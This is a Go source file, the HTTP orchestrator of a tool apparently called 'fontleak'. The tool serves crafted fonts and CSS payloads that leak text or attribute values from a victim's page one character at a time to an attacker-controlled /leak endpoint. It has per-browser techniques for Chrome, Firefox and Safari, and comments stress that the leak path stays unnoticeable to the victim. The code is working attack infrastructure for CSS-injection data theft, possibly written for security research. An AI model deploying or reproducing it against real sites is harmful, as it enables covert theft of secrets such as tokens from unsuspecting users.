// Package orchestrator ties SessionStore, FontBuilder and cssrenderer
// together into the three HTTP endpoints spec §4.5 and §6 describe. It
// holds no protocol-framework dependency of its own (that's internal/httpapi's
// job) so its handlers are plain net/http and easy to exercise directly.
package orchestrator

import (
	"encoding/base64"
	"net/http"
	"strconv"
	"strings"

	"github.com/google/uuid"
	"go.uber.org/zap"

	"github.com/meme-lord/fontleak/internal/alphabet"
	"github.com/meme-lord/fontleak/internal/config"
	"github.com/meme-lord/fontleak/internal/cssrenderer"
	"github.com/meme-lord/fontleak/internal/font"
	"github.com/meme-lord/fontleak/internal/session"
	"github.com/meme-lord/fontleak/internal/tracing"
	"github.com/meme-lord/fontleak/internal/useragent"
	"github.com/meme-lord/fontleak/pkg/apperror"
)

// Orchestrator implements the leak protocol's HTTP surface (spec §6.2):
// GET /, GET /leak, GET /static and GET /font.ttf.
type Orchestrator struct {
	store    *session.Store
	builder  *font.Builder
	settings func() *config.Settings
	log      *zap.Logger
	tracer   *tracing.Provider
}

// New returns an Orchestrator. settings is called on every request so a
// hot-reloaded config (internal/config.WatchAndReload) takes effect
// immediately, with no restart needed. tracer may be nil, in which case
// every operation's span is a no-op (see tracing.Provider.StartSpan).
func New(store *session.Store, builder *font.Builder, settings func() *config.Settings, log *zap.Logger, tracer *tracing.Provider) *Orchestrator {
	return &Orchestrator{store: store, builder: builder, settings: settings, log: log, tracer: tracer}
}

func (o *Orchestrator) defaultSetup() session.Setup {
	s := o.settings()
	return session.Setup{
		Alphabet: s.Alphabet,
		Selector: s.Selector,
		Parent:   s.Parent,
		Attr:     s.Attr,
		Timeout:  s.Timeout,
		Length:   s.Length,
	}
}

// Setup serves GET / (spec §4.5): it resolves or creates a session, long-
// polls for the next character when one is already known, and dispatches
// to the browser-specific template.
func (o *Orchestrator) Setup(w http.ResponseWriter, r *http.Request) {
	ctx, span := o.tracer.StartSpan(r.Context(), "orchestrator.Setup")
	defer span.End()
	r = r.WithContext(ctx)

	w.Header().Set("Access-Control-Allow-Origin", "*")
	q := r.URL.Query()
	id := q.Get("id")
	staging := q.Get("staging") == "true"

	sess, existed := o.store.Lookup(id)
	if !existed {
		setup, err := parseSetup(q, o.defaultSetup())
		if err != nil {
			o.writeError(w, err)
			return
		}
		browser := useragent.Detect(r.UserAgent())

		artifact, err := o.builder.Generate(setup.Alphabet, setup.Length, setup.Strip, setup.Prefix, false, 0)
		if err != nil {
			o.writeError(w, err)
			return
		}

		created, err := o.store.CreateOrResume(id, func(allocated string) (*session.Session, error) {
			return session.New(allocated, setup, artifact.StepMap, artifact, session.Browser(browser)), nil
		})
		if err != nil {
			o.writeError(w, err)
			return
		}
		sess = created
	} else {
		stepParam, hasStep, err := parseOptionalInt(q, "step")
		if err != nil {
			o.writeError(w, err)
			return
		}
		if hasStep {
			if err := validateStep(stepParam, len(sess.StepMap)); err != nil {
				o.writeError(w, err)
				return
			}
			if stepParam <= sess.Step() {
				// already known: fall through and render immediately.
			} else if !sess.AwaitAdvance(stepParam-1, sess.Setup.Timeout, r.Context().Done()) {
				o.writeEmptyCSS(w)
				return
			}
		} else if !sess.AwaitAdvance(sess.Step(), sess.Setup.Timeout, r.Context().Done()) {
			o.writeEmptyCSS(w)
			return
		}
	}

	o.dispatch(w, r, sess, staging)
}

func (o *Orchestrator) dispatch(w http.ResponseWriter, r *http.Request, sess *session.Session, staging bool) {
	settings := o.settings()

	switch sess.Browser {
	case session.BrowserFirefox:
		o.writeAnimation(w, sess, settings)
		return
	case session.BrowserSafari:
		stepParam, hasStep, err := parseOptionalInt(r.URL.Query(), "step")
		if err != nil {
			o.writeError(w, err)
			return
		}
		if !hasStep {
			o.writeSFC(w, sess, settings)
			return
		}
		o.writeSafariFont(w, sess, stepParam)
		return
	default: // chrome, and the unrecognised-User-Agent "all" fallback
		if staging {
			payload, err := cssrenderer.RenderStaging(&cssrenderer.Context{ID: sess.ID, Host: settings.Host})
			o.writeCSS(w, payload, err)
			return
		}
		o.writeDynamicStep(w, sess, settings)
	}
}

func (o *Orchestrator) writeDynamicStep(w http.ResponseWriter, sess *session.Session, settings *config.Settings) {
	step := sess.Step()
	stepChar := rune(0)
	if step < len(sess.StepMap) {
		stepChar = sess.StepMap[step]
	}
	ctx := &cssrenderer.Context{
		ID:              sess.ID,
		Step:            step,
		StepChar:        stepChar,
		FontPath:        sess.Font.DataURL,
		WidthContainers: widthRange(len(sess.Setup.Alphabet)),
		LeakSelector:    sess.Setup.Selector,
		Host:            settings.Host,
		HostLeak:        settings.HostLeak,
		Parent:          sess.Setup.Parent,
		Attr:            sess.Setup.Attr,
	}
	payload, err := cssrenderer.RenderDynamicStep(ctx)
	o.writeCSS(w, payload, err)
}

func (o *Orchestrator) writeAnimation(w http.ResponseWriter, sess *session.Session, settings *config.Settings) {
	steps := make([]cssrenderer.AnimationStep, 0, len(sess.StepMap))
	for i, ch := range sess.StepMap {
		steps = append(steps, cssrenderer.AnimationStep{Step: i, StepChar: ch, FontPath: sess.Font.DataURL})
	}
	ctx := &cssrenderer.Context{
		ID:              sess.ID,
		FontPath:        sess.Font.DataURL,
		WidthContainers: widthRange(len(sess.Setup.Alphabet)),
		LeakSelector:    sess.Setup.Selector,
		Host:            settings.Host,
		HostLeak:        settings.HostLeak,
		Parent:          sess.Setup.Parent,
		Attr:            sess.Setup.Attr,
		AnimationSteps:  steps,
	}
	payload, err := cssrenderer.RenderAnimation(ctx)
	o.writeCSS(w, payload, err)
}

func (o *Orchestrator) writeSFC(w http.ResponseWriter, sess *session.Session, settings *config.Settings) {
	n := sess.Setup.Length
	if n <= 0 {
		n = font.DefaultIdxMax
	}
	chain := make([]cssrenderer.ChainStep, 0, n)
	for pos := 0; pos < n && pos < len(font.IdxPoints); pos++ {
		chain = append(chain, cssrenderer.ChainStep{
			Position:     pos,
			FontPath:     settings.Host + "/?id=" + sess.ID + "&step=" + strconv.Itoa(pos),
			UnicodeRange: "U+" + strconv.FormatInt(int64(font.IdxPoints[pos]), 16),
		})
	}
	ctx := &cssrenderer.Context{
		ID:           sess.ID,
		Host:         settings.Host,
		HostLeak:     settings.HostLeak,
		Parent:       sess.Setup.Parent,
		Attr:         sess.Setup.Attr,
		LeakSelector: sess.Setup.Selector,
		IdxMax:       n,
		ChainSteps:   chain,
	}
	payload, err := cssrenderer.RenderSFC(ctx)
	o.writeCSS(w, payload, err)
}

// writeSafariFont rebuilds a single-position font addressing exactly the
// string offset Safari's sequential-font-chaining asked for (spec §4.5):
// idx_max=1, prefix = setup.prefix + the secret reconstructed so far,
// prefix_idx=true so the step map starts at len(prefix) rather than 0, and
// offset shifting every leak glyph's advance width so this position's font
// occupies a width range disjoint from every other position's.
func (o *Orchestrator) writeSafariFont(w http.ResponseWriter, sess *session.Session, step int) {
	reconstruction := sess.Reconstruction()
	prefix := sess.Setup.Prefix + string(reconstruction)
	offset := len(reconstruction) * (len(sess.Setup.Alphabet) + 1)

	artifact, err := o.builder.Generate(sess.Setup.Alphabet, 1, sess.Setup.Strip, prefix, true, offset)
	if err != nil {
		o.writeError(w, err)
		return
	}
	raw, err := decodeDataURL(artifact.DataURL)
	if err != nil {
		o.writeError(w, apperror.NewInternal("malformed font artifact").WithCause(err))
		return
	}
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Content-Type", "font/opentype")
	w.Write(raw)
}

// Leak serves GET /leak (spec §4.5): every probe, known session or not,
// answers with an identical HTTP 400 PNG stub so the requesting browser's
// background-image error path never varies in a way a victim could notice.
func (o *Orchestrator) Leak(w http.ResponseWriter, r *http.Request) {
	ctx, span := o.tracer.StartSpan(r.Context(), "orchestrator.Leak")
	defer span.End()
	r = r.WithContext(ctx)

	q := r.URL.Query()
	idx, err := strconv.Atoi(q.Get("idx"))

	if err == nil {
		if sess := o.resolveLeakSession(r, q); sess != nil {
			decoded := session.DecodeChar(sess.Setup.Alphabet, idx)
			stepParam, hasStep, stepErr := parseOptionalInt(q, "step")
			if stepErr == nil {
				if hasStep {
					sess.RecordLeak(decoded, &stepParam)
				} else {
					sess.RecordLeak(decoded, nil)
				}
			}
		}
	}

	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Cache-Control", "no-store, no-cache, must-revalidate")
	w.Header().Set("Content-Type", "image/png")
	w.WriteHeader(http.StatusBadRequest)
}

func (o *Orchestrator) resolveLeakSession(r *http.Request, q interface{ Get(string) string }) *session.Session {
	if id := q.Get("id"); id != "" {
		sess, _ := o.store.Lookup(id)
		return sess
	}
	sid := q.Get("sid")
	if sid == "" {
		return nil
	}
	browser := session.Browser(useragent.Detect(r.UserAgent()))
	key := session.StaticKey(remoteIP(r), r.UserAgent(), r.Referer(), sid)
	sess, ok, err := o.store.ResolveStatic(sid, key, func(id string, setup session.Setup) (*session.Session, error) {
		artifact, genErr := o.builder.Generate(setup.Alphabet, setup.Length, setup.Strip, setup.Prefix, false, 0)
		if genErr != nil {
			return nil, genErr
		}
		return session.New(id, setup, artifact.StepMap, artifact, browser), nil
	})
	if err != nil || !ok {
		return nil
	}
	return sess
}

// Static serves GET /static (spec §4.4, §7): it allocates a fresh sid
// bound to the request's setup parameters and returns a stylesheet that
// keys every /leak probe off that sid rather than a session id, since no
// Session exists until the first probe arrives.
func (o *Orchestrator) Static(w http.ResponseWriter, r *http.Request) {
	_, span := o.tracer.StartSpan(r.Context(), "orchestrator.Static")
	defer span.End()

	q := r.URL.Query()
	browserParam := q.Get("browser")
	if browserParam != string(useragent.Chrome) && browserParam != string(useragent.Firefox) {
		o.writeError(w, apperror.NewUnsupportedBrowser(browserParam))
		return
	}

	setup, err := parseSetup(q, o.defaultSetup())
	if err != nil {
		o.writeError(w, err)
		return
	}

	sid := newSID()
	o.store.RegisterStaticSetup(sid, setup)

	idxMax := setup.Length
	if idxMax <= 0 {
		idxMax = font.DefaultIdxMax
	}
	artifact, err := o.builder.Generate(setup.Alphabet, idxMax, setup.Strip, setup.Prefix, false, 0)
	if err != nil {
		o.writeError(w, err)
		return
	}

	steps := make([]cssrenderer.AnimationStep, 0, len(artifact.StepMap))
	for i, ch := range artifact.StepMap {
		steps = append(steps, cssrenderer.AnimationStep{Step: i, StepChar: ch, FontPath: artifact.DataURL})
	}

	settings := o.settings()
	ctx := &cssrenderer.Context{
		ID:              sid,
		SID:             sid,
		FontPath:        artifact.DataURL,
		WidthContainers: widthRange(len(setup.Alphabet)),
		LeakSelector:    setup.Selector,
		Host:            settings.Host,
		HostLeak:        settings.HostLeak,
		Parent:          setup.Parent,
		Attr:            setup.Attr,
		IdxMax:          idxMax,
		AnimationSteps:  steps,
	}

	// Firefox gets its usual time-sliced @keyframes chain; every other
	// supported browser (chrome) gets the static template's full
	// idx_max-wide chain in one response, since no Session exists yet to
	// long-poll against (spec §4.4).
	var payload []byte
	var renderErr error
	if browserParam == string(useragent.Firefox) {
		payload, renderErr = cssrenderer.RenderAnimation(ctx)
	} else {
		payload, renderErr = cssrenderer.RenderStatic(ctx)
	}
	if renderErr != nil {
		o.writeError(w, apperror.NewInternal("rendering static payload").WithCause(renderErr))
		return
	}
	o.writeCSS(w, payload, nil)
}

// DefaultFont serves GET /font.ttf: a font built over the default
// alphabet, for debugging and for clients that don't need a
// session-scoped artifact.
func (o *Orchestrator) DefaultFont(w http.ResponseWriter, r *http.Request) {
	artifact, err := o.builder.Generate(alphabet.DefaultAlphabet(), font.DefaultIdxMax, false, "", false, 0)
	if err != nil {
		o.writeError(w, err)
		return
	}
	raw, err := decodeDataURL(artifact.DataURL)
	if err != nil {
		o.writeError(w, apperror.NewInternal("malformed font artifact").WithCause(err))
		return
	}
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Content-Type", "font/opentype")
	w.Write(raw)
}

func (o *Orchestrator) writeCSS(w http.ResponseWriter, payload []byte, err error) {
	if err != nil {
		o.writeError(w, err)
		return
	}
	w.Header().Set("Content-Type", "text/css")
	w.WriteHeader(http.StatusOK)
	w.Write(payload)
}

func (o *Orchestrator) writeEmptyCSS(w http.ResponseWriter) {
	w.Header().Set("Content-Type", "text/css")
	w.WriteHeader(http.StatusOK)
}

func (o *Orchestrator) writeError(w http.ResponseWriter, err error) {
	appErr := apperror.Wrap(err)
	if o.log != nil {
		o.log.Warn("request failed", zap.String("code", string(appErr.Code)), zap.String("details", appErr.Details))
	}
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	w.WriteHeader(appErr.StatusCode())
	if appErr.StatusCode() != http.StatusOK {
		w.Write([]byte(appErr.Error()))
	}
}

func widthRange(alphabetSize int) []int {
	widths := make([]int, alphabetSize+1)
	for i := range widths {
		widths[i] = i + 1
	}
	return widths
}

func decodeDataURL(dataURL string) ([]byte, error) {
	_, encoded, found := strings.Cut(dataURL, ",")
	if !found {
		return nil, apperror.NewInternal("data URL missing comma separator")
	}
	return base64.StdEncoding.DecodeString(encoded)
}

// remoteIP strips the port from RemoteAddr, falling back to the raw value
// if it carries no port (as happens with some test transports).
func remoteIP(r *http.Request) string {
	addr := r.RemoteAddr
	if idx := strings.LastIndex(addr, ":"); idx != -1 {
		return addr[:idx]
	}
	return addr
}

func newSID() string {
	return uuid.NewString()
}
